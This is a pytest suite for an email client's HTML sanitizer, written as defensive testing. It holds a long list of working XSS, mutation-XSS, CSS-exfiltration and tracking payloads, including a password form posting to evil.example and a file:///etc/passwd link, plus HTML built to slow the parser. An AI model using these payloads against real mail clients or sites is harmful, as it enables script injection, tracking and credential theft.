"""HTML of strangers: nothing runs, loads, posts or covers; what is honest keeps its look."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree
from mails import mail

from inbox_service.mime import sanitize
from inbox_service.mime.css import safe_style

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/a.png' onload=alert(1)>",
    "<img/onerror=alert(1)/src=x>",
    "<img src=x:alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img srcset='https://evil.example/a.png 2x'>",
    "<img lowsrc='https://evil.example/a.png' dynsrc='https://evil.example/b'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='data:image/png;base64,AA\" onerror=\"alert(1)'>",
    "<picture><source srcset='https://evil.example/a.png'><img></picture>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='cid:1'>x</a>",
    "<a href='#top' ping='https://evil.example/p'>x</a>",
    "<a href='https://ok.example' target='_top' rel='opener'>x</a>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<button formaction='https://evil.example'>x</button>",
    "<input type=image src='https://evil.example/a.png'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src='https://evil.example'></frameset>",
    "<object data='https://evil.example/x.swf'><param name=x></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=prefetch href='https://evil.example/x'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'><a href='x'>x</a>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<style>body{background:url(https://evil.example/a.png)}</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href='https://evil.example/a.png'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=x src>'>",
    "<video src='https://evil.example/v' poster='https://evil.example/p' autoplay></video>",
    "<audio src='https://evil.example/a'></audio>",
    "<video><source onerror=alert(1)></video>",
    "<body background='https://evil.example/a.png' onload=alert(1)>x</body>",
    "<table background='https://evil.example/a.png'><td background='https://evil.example/b'>x</table>",
    "<div style='background:url(https://evil.example/a.png)'>x</div>",
    "<div style='background:u\\72l(https://evil.example/a.png)'>x</div>",
    "<div style='background:url&#40;https://evil.example/a.png)'>x</div>",
    "<div style='background-image:image-set(\"https://evil.example/a.png\" 1x)'>x</div>",
    "<div style='list-style-image:url(https://evil.example/a.png)'>x</div>",
    "<div style='border-image:url(https://evil.example/a.png)'>x</div>",
    "<div style='content:url(https://evil.example/a.png)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(#x);-moz-binding:url(x)'>x</div>",
    "<div style='color:red;/**/background:url(https://evil.example/a.png)'>x</div>",
    "<div style='color:red;}@import url(https://evil.example/x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
    "<div style='position:absolute'>x</div>",
    "<div style='transform:scale(100)'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte mso 9]><xml><o:p/></xml><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p id=wpadminbar class='wp-core-ui notice'>x</p>",
    "<div data-remote-src='https://evil.example/a.png'>x</div>",
    "<img data-remote-src='javascript:alert(1)'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action='https://evil.example'>",
    "<dialog open>x</dialog>",
    "<x onclick=alert(1)>x</x>",
    "<img src=`x`onerror=alert(1)>",
    '<a href="https://x.example" title="a><img src=x onerror=alert(1)>">x</a>',
    "<p style='color:red' style='background:url(https://evil.example/a.png)'>x</p>",
    "<a href='\u0001\u0002javascript:alert(1)'>x</a>",
    "<a href='//evil.example' onclick=alert(1)>x</a>",
]
_TAGS = (
    "a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code "
    "col colgroup dd del dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header "
    "hr i img ins kbd li main mark nav ol p pre q rp rt ruby s samp section small span strike "
    "strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr"
)
_ATTRIBUTES = (
    "align alt bgcolor border cellpadding cellspacing class color colspan data-remote-src dir "
    "face height href hspace id lang nowrap noshade rel reversed rowspan scope size span src "
    "start style target title type valign value vspace width"
)
TAGS, ATTRIBUTES = set(_TAGS.split()), set(_ATTRIBUTES.split())


def elements(html: str) -> list[etree._Element]:
    """Parse HTML and return all elements in the body."""
    root = etree.fromstring(f"<body>{html}</body>", etree.HTMLParser(huge_tree=True))
    return [] if root is None else list(root.iter())[2:]


def described(html: str) -> list[tuple[str, list[tuple[str, str]], str | None, str | None]]:
    """Return the elements without the order of their attributes, which differs by chance."""
    return [(e.tag, sorted(e.attrib.items()), e.text, e.tail) for e in elements(html)]


def check_harmless(html: str) -> None:
    """Fail where a browser would run, load, post or cover anything."""
    for element in elements(html):
        assert element.tag in TAGS, element.tag
        assert set(element.attrib) <= ATTRIBUTES, dict(element.attrib)
        assert not re.search(r"url|\\|@|position|expression", element.get("style", ""))
        assert re.match(r"(https?://|mailto:|tel:|$)", element.get("href", ""))
        assert re.match(r"(cid:|data:image/(png|jpe?g|gif|webp|bmp);|$)", element.get("src", ""))
        assert re.match(r"(https?://|$)", element.get("data-remote-src", ""))


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left(html: str) -> None:
    check_harmless(sanitize(html).html)
    check_harmless(sanitize(f"<table><tr><td>{html}<b>after").html)


@pytest.mark.parametrize("html", HOSTILE)
def test_cleaning_twice_finds_nothing_more(html: str) -> None:
    once = re.sub(r' data-remote-src="[^"]*"', "", sanitize(html).html)
    assert described(sanitize(once).html) == described(once)


@given(st.text(alphabet=st.sampled_from(list("<>/=\"' abimgscrptyle:;&#x!-")), max_size=80))
def test_no_soup_of_tags_gets_through(html: str) -> None:
    check_harmless(sanitize(html).html)


@given(st.text(max_size=100))
def test_plain_text_keeps_its_letters(text: str) -> None:
    sanitized = sanitize(text.replace("<", " ").replace("&", " "))
    assert sanitized.remote_images == 0
    assert "\x00" not in sanitized.html


def test_a_remote_image_is_held_back_and_counted() -> None:
    safe = sanitize('<img src="https://x.example/a.png?a=1&b=2" alt="A"><img src=//y.example/b>')
    assert safe.remote_images == 2
    assert 'data-remote-src="https://x.example/a.png?a=1&amp;b=2"' in safe.html
    assert 'data-remote-src="https://y.example/b"' in safe.html
    assert " src=" not in safe.html


def test_an_image_of_the_mail_itself_stays() -> None:
    safe = sanitize('<img src="cid:logo@x"><img src="data:image/png;base64,iVBORw0KGgo=">')
    assert safe.remote_images == 0
    assert safe.html.count(" src=") == 2


def test_a_mail_cannot_write_a_held_back_image_itself() -> None:
    safe = sanitize('<img data-remote-src="https://evil.example/a">src="held')
    assert safe.remote_images == 0
    assert "data-remote-src" not in safe.html


@pytest.mark.parametrize(
    "address",
    ["https://x.example/a?b=1", "http://x.example", "mailto:a@b.example?subject=x", "tel:+9661"],
)
def test_a_link_stays_and_opens_apart(address: str) -> None:
    html = sanitize(f'<a href="{address}">x</a>').html
    assert f'href="{address}"' in html
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_the_words_of_a_form_stay() -> None:
    assert sanitize("<form><p>Rate us</p><button>Good</button></form>").html == "<p>Rate us</p>Good"


def test_the_marks_of_quotes_stay_for_the_folding() -> None:
    html = '<div class="x gmail_quote wp-core" id="appendonsend">q</div>'
    assert sanitize(html).html == '<div class="gmail_quote" id="appendonsend">q</div>'


def test_a_newsletter_keeps_its_table_and_loses_what_loads() -> None:
    safe = sanitize(mail("newsletter").html)
    check_harmless(safe.html)
    assert safe.remote_images == 2
    assert 'bgcolor="#f4f4f4"' in safe.html
    assert "padding: 20px; color: #333" in safe.html
    assert '<div style="display: none">Tulips' in safe.html


def test_arabic_and_its_direction_stay() -> None:
    assert sanitize('<p dir="rtl" lang="ar">مرحبا</p>').html == '<p dir="rtl" lang="ar">مرحبا</p>'


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color: red", "color: red"),
        ("COLOR:#fff;Margin:0 auto !important", "color: #fff; margin: 0 auto !important"),
        ("font-family:'Segoe UI', Arial", "font-family: 'Segoe UI', Arial"),
        ("background: rgb(1, 2, 3)", "background: rgb(1, 2, 3)"),
        ("width: calc(100% - 2px)", "width: calc(100% - 2px)"),
        ("font-family:'open", ""),
        ("color: attr(x)", ""),
        ("color: var(--x)", ""),
        ("z-index: 9; float: left", "float: left"),
        ("border-image-source: none", ""),
        ("color", ""),
        (";;;", ""),
        ("", ""),
    ],
)
def test_a_style_keeps_only_what_colours_and_spaces(style: str, kept: str) -> None:
    assert safe_style(style) == kept


BOMBS = {
    "deep": "<div>" * 100_000,
    "formatting": "".join(f"<font size={n}>" for n in range(900)) + "<p>x" * 20_000,
    "quotes": '<a "' * 200_000,
    "ampersands": "&" * 1_000_000,
    "comments": "<!--" * 200_000,
    "tables": "<table>" * 50_000,
    "style": '<p style="' + "color:red;" * 90_000 + '">x',
    "attributes": "<p " + "".join(f"a{n}=1 " for n in range(50_000)) + ">x",
}


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=list(BOMBS))
def test_html_made_to_be_slow_is_cleaned_in_two_seconds(bomb: str) -> None:
    begun = time.process_time()
    check_harmless(sanitize(bomb).html[:100_000])
    assert time.process_time() - begun < 2


def test_html_nested_beyond_reason_comes_back_as_its_text() -> None:
    assert "hello" in sanitize("<div>" * 5000 + "hello").html
